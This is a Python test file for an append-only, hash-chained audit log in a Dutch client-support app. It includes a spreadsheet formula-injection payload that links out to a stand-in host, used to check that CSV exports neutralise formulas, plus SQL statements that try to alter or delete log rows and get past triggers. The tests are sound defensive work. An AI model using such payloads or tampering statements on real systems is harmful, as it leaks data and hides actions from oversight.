"""The audit log: append-only in the database, hash-chained, exportable, and free of personal text."""

from __future__ import annotations

import contextlib
import csv
import dataclasses
import io
import itertools
import os
from datetime import date, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import text

from clientsteun.domain.audit import GENESIS, AuditAction, AuditEntry, entry_hash, first_broken
from clientsteun.domain.catalog import Catalog
from clientsteun.domain.errors import AppLocked, DatabaseProblem
from clientsteun.domain.model import ClientInput, ConversationInput
from clientsteun.services import Services
from clientsteun.services.audit import current_user
from clientsteun.store.database import open_database
from tests.conftest import NOW, TEST_KEY, FakeClock

SECRET_NAME = "Kanarie Geheimnaam"
SECRET_NOTE = "Zwaluwstaart-geheim: schuld bij de woningcorporatie en een ziekenhuisopname"


def _record_some(services: Services, clock: FakeClock) -> None:
    client = services.clients.create_client(ClientInput(SECRET_NAME, municipality="Borne"))
    services.conversations.save_conversation(None, ConversationInput(client.id, NOW.date(), "other", notes=SECRET_NOTE))
    for minutes, action in enumerate(
        [AuditAction.EXPORT, AuditAction.PRINT, AuditAction.SUMMARY, AuditAction.PREPARATION_SHEET]
    ):
        clock.value = NOW + timedelta(minutes=minutes)
        services.audit.record(action, client_id=client.id, detail="pdf")
    services.audit.record(AuditAction.BACKUP, detail="handmatig")
    services.audit.record(AuditAction.FAILED_UNLOCK, at="2026-11-22T23:59:58")


def _raw(services: Services, sql: str, **parameters: object) -> list[tuple[object, ...]]:
    with services.database.transaction() as session:
        return [tuple(row) for row in session.execute(text(sql), parameters)]


def test_entries_are_kept_in_order_with_a_valid_chain(services: Services, clock: FakeClock) -> None:
    _record_some(services, clock)
    entries = services.audit.entries()
    assert [entry.action for entry in entries] == [
        AuditAction.EXPORT,
        AuditAction.PRINT,
        AuditAction.SUMMARY,
        AuditAction.PREPARATION_SHEET,
        AuditAction.BACKUP,
        AuditAction.FAILED_UNLOCK,
    ]
    assert entries[0].previous_hash == GENESIS
    assert all(later.previous_hash == earlier.hash for earlier, later in itertools.pairwise(entries))
    assert entries[-1].at == datetime(2026, 11, 22, 23, 59, 58)  # a failed unlock keeps its own moment
    assert entries[1].at == NOW + timedelta(minutes=1)
    assert all(entry.user == current_user() for entry in entries)
    assert entries[4].client_id is None and entries[0].client_id is not None
    assert services.audit.first_broken() is None


def test_an_empty_log_is_intact(services: Services) -> None:
    assert services.audit.entries() == []
    assert services.audit.first_broken() is None


@pytest.mark.parametrize(
    "sql",
    [
        "UPDATE audit_log SET detail = 'anders' WHERE id = 2",
        "UPDATE audit_log SET hash = previous_hash",
        "DELETE FROM audit_log WHERE id = 2",
        "DELETE FROM audit_log",
        # REPLACE deletes the line it conflicts with without firing a DELETE trigger.
        "INSERT OR REPLACE INTO audit_log (id, at, action, client_id, user, detail, previous_hash, hash) "
        "SELECT id, at, action, client_id, user, 'anders', previous_hash, hash FROM audit_log WHERE id = 2",
        "REPLACE INTO audit_log SELECT * FROM audit_log",
        "INSERT INTO audit_log SELECT * FROM audit_log WHERE id = 3 ON CONFLICT (id) DO UPDATE SET detail = 'anders'",
    ],
)
def test_the_database_refuses_to_change_or_remove_lines(services: Services, clock: FakeClock, sql: str) -> None:
    _record_some(services, clock)
    before = services.audit.entries()
    with pytest.raises(DatabaseProblem) as caught, services.database.transaction() as session:
        session.execute(text(sql))
    assert caught.value.message
    assert "append-only" in caught.value.detail
    assert services.audit.entries() == before
    assert services.audit.first_broken() is None


def _drop_triggers(services: Services) -> None:
    with services.database.transaction() as session:
        session.execute(text("DROP TRIGGER audit_log_no_update"))
        session.execute(text("DROP TRIGGER audit_log_no_delete"))
        session.execute(text("DROP TRIGGER audit_log_no_replace"))


def test_a_changed_detail_is_found_at_that_line(services: Services, clock: FakeClock) -> None:
    _record_some(services, clock)
    _drop_triggers(services)
    with services.database.transaction() as session:
        session.execute(text("UPDATE audit_log SET detail = 'niets' WHERE id = 3"))
    assert services.audit.first_broken() == 3


@pytest.mark.parametrize(
    ("sql", "broken_at"),
    [
        ("UPDATE audit_log SET action = 'print' WHERE id = 1", 1),
        ("UPDATE audit_log SET client_id = NULL WHERE id = 4", 4),
        ("UPDATE audit_log SET user = 'iemand' WHERE id = 5", 5),
        ("UPDATE audit_log SET at = '2026-11-23 11:00:00.000000' WHERE id = 2", 2),
        ("DELETE FROM audit_log WHERE id = 2", 3),  # the line after the gap no longer follows
        ("DELETE FROM audit_log WHERE id = 1", 2),
    ],
)
def test_any_tampering_is_found_where_it_happened(
    services: Services, clock: FakeClock, sql: str, broken_at: int
) -> None:
    _record_some(services, clock)
    _drop_triggers(services)
    with services.database.transaction() as session:
        session.execute(text(sql))
    assert services.audit.first_broken() == broken_at


def test_a_recomputed_hash_still_breaks_the_next_line(services: Services, clock: FakeClock) -> None:
    """Somebody who rehashes the line they changed breaks the link from the line after it."""
    _record_some(services, clock)
    _drop_triggers(services)
    entry = services.audit.entries()[2]
    forged = entry_hash(entry.previous_hash, entry.at, entry.action, entry.client_id, entry.user, "niets")
    with services.database.transaction() as session:
        session.execute(
            text("UPDATE audit_log SET detail = 'niets', hash = :hash WHERE id = :id"), {"hash": forged, "id": entry.id}
        )
    assert services.audit.first_broken() == entry.id + 1


def test_an_inserted_line_is_found(services: Services, clock: FakeClock) -> None:
    _record_some(services, clock)
    entries = services.audit.entries()
    with services.database.transaction() as session:  # insert is allowed; a forged line cannot chain
        session.execute(
            text(
                "INSERT INTO audit_log (at, action, client_id, user, detail, previous_hash, hash) "
                "VALUES ('2026-11-23 12:00:00.000000', 'export', NULL, 'x', '', :previous, :hash)"
            ),
            {"previous": GENESIS, "hash": "f" * 64},
        )
    assert services.audit.first_broken() == entries[-1].id + 1


def test_first_broken_on_plain_values() -> None:
    entries: list[AuditEntry] = []
    previous = GENESIS
    for number in range(1, 5):
        at = datetime(2026, 11, 23, 10, number)
        digest = entry_hash(previous, at, "print", number, "anna", f"regel {number}")
        entries.append(AuditEntry(number, at, AuditAction.PRINT, number, "anna", f"regel {number}", previous, digest))
        previous = digest
    assert first_broken(entries) is None
    assert first_broken([]) is None
    assert first_broken(entries[1:]) == 2
    changed = [*entries[:2], dataclasses.replace(entries[2], user="bert"), entries[3]]
    assert first_broken(changed) == 3
    assert first_broken([entries[0], entries[2], entries[1], entries[3]]) == 3


def test_a_long_detail_is_cut_and_the_chain_still_holds(services: Services) -> None:
    services.audit.record(AuditAction.EXPORT, detail="x" * 500)
    services.audit.record(AuditAction.PRINT)
    entries = services.audit.entries()
    assert len(entries[0].detail) <= 200
    assert services.audit.first_broken() is None


def test_csv_export_is_excel_friendly_dutch_and_logged(services: Services, clock: FakeClock, tmp_path: Path) -> None:
    _record_some(services, clock)
    before = services.audit.entries()
    target = tmp_path / "export" / "logboek.csv"
    assert services.audit.export_csv(target) == len(before)

    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the accents right
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["nr", "datum", "tijd", "handeling", "inwoner", "gebruiker", "toelichting", "hash"]
    assert len(rows) == 1 + len(before)
    assert all(len(row) == 8 for row in rows)
    first = rows[1]
    assert first[0] == str(before[0].id)
    assert first[1] == "23-11-2026" and first[2] == "10:30"
    assert first[3] == "Gegevens geëxporteerd"
    assert first[4] == str(before[0].client_id)
    assert first[7] == before[0].hash
    assert rows[5][4] == ""  # a backup names no resident
    assert rows[6][3] == "Mislukte poging om te ontgrendelen"
    assert b"\r\n" in data and b";" in data.splitlines()[0]

    after = services.audit.entries()
    assert len(after) == len(before) + 1
    assert after[-1].action is AuditAction.AUDIT_EXPORT
    assert after[-1].client_id is None
    assert services.audit.first_broken() is None
    assert SECRET_NAME.encode() not in data and SECRET_NOTE.encode() not in data


def test_every_action_has_a_dutch_label() -> None:
    labels = [action.label for action in AuditAction]
    assert all(labels) and len(set(labels)) == len(labels)


def test_entries_never_hold_names_or_note_text(services: Services, clock: FakeClock) -> None:
    _record_some(services, clock)
    for action in AuditAction:
        services.audit.record(action, client_id=1)
    entries = services.audit.entries()
    assert len(entries) == 6 + len(AuditAction)
    rows = _raw(services, "SELECT * FROM audit_log")
    flat = " ".join(str(value) for row in rows for value in row)
    for word in (*SECRET_NAME.split(), "Zwaluwstaart", "woningcorporatie", "ziekenhuisopname", "Borne"):
        assert word not in flat
    for entry in entries:
        assert SECRET_NAME not in entry.detail and "Zwaluwstaart" not in entry.detail


def test_carry_over_appends_only_lines_that_continue_the_chain(
    services: Services, clock: FakeClock, tmp_path: Path, catalog: Catalog
) -> None:
    """After a restore, the lines the replaced file had beyond the backup are appended unchanged."""
    services.audit.record(AuditAction.BACKUP)
    other = Services.create(open_database(tmp_path / "other.db", TEST_KEY), catalog, clock)
    with contextlib.closing(other):
        other.audit.record(AuditAction.BACKUP)  # a different first line: does not continue our chain
        assert services.audit.carry_over(other.audit.entries()) == 0

    # The same log grown further in the copy that was replaced by the restore:
    original = services.audit.entries()
    grown_path = tmp_path / "grown.db"
    grown = Services.create(open_database(grown_path, TEST_KEY), catalog, clock)
    with contextlib.closing(grown):
        grown.audit.carry_over(original)
        grown.audit.record(AuditAction.EXPORT, client_id=7, detail="pdf")
        grown.audit.record(AuditAction.ERASE, client_id=7)
        extra = grown.audit.entries()
    assert services.audit.carry_over(extra) == 2
    assert services.audit.entries() == extra
    assert services.audit.first_broken() is None
    assert services.audit.carry_over(extra) == 0  # nothing twice


def test_an_entry_dated_with_a_moment_keeps_it(services: Services) -> None:
    services.audit.record(AuditAction.FAILED_UNLOCK, at="2026-11-20T08:15:00")
    (entry,) = services.audit.entries()
    assert entry.at == datetime(2026, 11, 20, 8, 15)
    assert entry.at.date() == date(2026, 11, 20)
    assert services.audit.first_broken() is None


def test_nothing_is_recorded_while_locked(services: Services) -> None:
    services.audit.record(AuditAction.PRINT)
    services.database.lock()
    with pytest.raises(AppLocked):
        services.audit.record(AuditAction.PRINT)
    services.database.unlock(TEST_KEY)
    assert len(services.audit.entries()) == 1


@pytest.mark.parametrize("detail", ['=HYPERLINK("https://voorbeeld.test/?"&A1;"klik")', "+1", "-2", "@SUM(1)"])
def test_csv_export_never_starts_a_formula_in_a_text_cell(services: Services, tmp_path: Path, detail: str) -> None:
    services.audit.record(AuditAction.EXPORT, client_id=7, detail=detail)
    target = tmp_path / "logboek.csv"
    services.audit.export_csv(target)
    rows = list(csv.reader(io.StringIO(target.read_bytes().decode("utf-8-sig")), delimiter=";"))
    assert rows[1][6] == "'" + detail, "shown as text by a spreadsheet program"
    assert rows[1][0] == "1" and rows[1][4] == "7", "numbers stay numbers"


def test_the_user_is_the_operating_system_account_not_what_the_environment_says(
    services: Services, monkeypatch: pytest.MonkeyPatch
) -> None:
    import pwd

    for variable in ("LOGNAME", "USER", "LNAME", "USERNAME"):
        monkeypatch.setenv(variable, "iemand")
    services.audit.record(AuditAction.PRINT)
    (entry,) = services.audit.entries()
    assert entry.user == pwd.getpwuid(os.getuid()).pw_name != "iemand"
